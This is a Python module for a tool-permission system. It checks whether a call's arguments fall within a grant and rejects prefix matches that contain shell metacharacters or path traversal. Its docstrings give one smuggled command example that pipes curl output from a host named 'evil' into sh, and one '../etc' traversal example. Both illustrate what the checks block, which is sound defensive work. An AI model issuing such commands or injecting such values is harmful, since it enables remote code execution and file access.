"""What a grant covers: one tool of one server, and of its calls all, one exactly, or those with certain arguments.

A pattern never widens by itself: a value equals another only with the same JSON, a prefix is one of a text that
does not climb out of it, and a condition on an argument that is not there does not hold.
"""

import json
import re
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Literal
from urllib.parse import unquote

_SPACE, _DELETE = 0x20, 0x7F
_IN_A_URL = re.compile(r"[\s;|$`<>\"'*(){}\\]")
_IN_A_SHELL = re.compile(_IN_A_URL.pattern[:-1] + "&?]")

Scalar = str | int | float | bool | None
Operator = Literal["equals", "prefix", "one_of"]


@dataclass(frozen=True, slots=True, kw_only=True)
class Condition:
    """What one argument must be: `equals` the only value, start with it (`prefix`), or be `one_of` them."""

    arg: str
    op: Operator
    values: tuple[Scalar, ...]

    def holds(self, args: Mapping[str, object]) -> bool:
        """Whether a call's arguments fulfil it."""
        if self.arg not in args:
            return False
        value = args[self.arg]
        if self.op == "prefix":
            prefix = self.values[0]
            return (
                isinstance(value, str)
                and isinstance(prefix, str)
                and value.startswith(prefix)
                and not _does_more(value[len(prefix) :], is_url="://" in prefix)
                and not _climbs(value[len(prefix) :])
            )
        return _canonical(value) in {_canonical(each) for each in self.values}


@dataclass(frozen=True, slots=True, kw_only=True)
class Pattern:
    """Which calls of the tool a grant covers: all, those with `args_hash` exactly, those that fulfil all conditions."""

    args_hash: str | None = None
    conditions: tuple[Condition, ...] = ()

    def covers(self, args: Mapping[str, object], args_hash: str) -> bool:
        """Whether a call with these arguments, and this hash of them, is covered."""
        if self.args_hash is not None and self.args_hash != args_hash:
            return False
        return all(condition.holds(args) for condition in self.conditions)

    def to_json(self) -> str | None:
        """As `grants.pattern` holds it; None: any arguments."""
        if self.args_hash is None and not self.conditions:
            return None
        conditions = [[each.arg, each.op, list(each.values)] for each in self.conditions]
        return json.dumps({"args_hash": self.args_hash, "conditions": conditions}, ensure_ascii=False)

    @classmethod
    def from_json(cls, text: str | None) -> "Pattern":
        """Back from the column."""
        if text is None:
            return cls()
        raw = json.loads(text)
        return cls(
            args_hash=raw["args_hash"],
            conditions=tuple(Condition(arg=a, op=o, values=tuple(v)) for a, o, v in raw["conditions"]),
        )

    def words(self) -> str:
        """The pattern for people."""
        if self.args_hash is not None:
            return "exactly the same arguments"
        if not self.conditions:
            return "any arguments"
        return "only where " + " and ".join(map(_words, self.conditions))


def _words(condition: Condition) -> str:
    match condition.op:
        case "equals":
            return f"{condition.arg} is {_canonical(condition.values[0])}"
        case "prefix":
            return f"{condition.arg} starts with {_canonical(condition.values[0])}"
        case "one_of":
            return f"{condition.arg} is one of {', '.join(map(_canonical, condition.values))}"


def _does_more(rest: str, *, is_url: bool) -> bool:
    """Whether a value may be more than one place: `/opt/bin/` must not cover `/opt/bin/status; curl evil | sh`.

    A tool may hand any text to a shell, so what one would act on is not covered; a URL may have several parameters.
    """
    return bool((_IN_A_URL if is_url else _IN_A_SHELL).search(rest))


def _climbs(rest: str) -> bool:
    """Whether the rest of a path may leave what its prefix names: `/srv/` must not cover `/srv/../etc`.

    Neither in the ways a URL may write it: percent-encoded (however often), or with a tab or line break, which are
    left out when a URL is read (WHATWG URL, "remove all ASCII tab or newline").
    """
    if any(ord(char) < _SPACE or ord(char) == _DELETE for char in rest):
        return True
    read = unquote(rest)
    return ".." in re.split(r"[/\\]", rest) or (read != rest and _climbs(read))


def _canonical(value: object) -> str:
    return json.dumps(value, sort_keys=True, ensure_ascii=False)
